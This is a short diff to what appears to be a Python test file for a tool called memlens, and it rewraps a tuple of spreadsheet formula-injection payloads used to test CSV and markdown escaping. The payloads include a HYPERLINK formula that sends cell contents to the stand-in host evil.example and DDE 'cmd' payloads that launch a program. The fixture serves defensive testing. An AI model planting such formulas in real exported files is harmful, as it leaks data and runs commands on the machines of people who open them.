@@ -23,8 +23,8 @@ from memlens.config import default_config
 from memlens.safetext import FORMULA_START, csv_cell, csv_frame, md_escape
 from memlens.warehouse import connect
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1", "=1+1")
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1")
 MULTILINE = "alice\n\n# You are fired\n- item\n\n| a | b |"
 
 
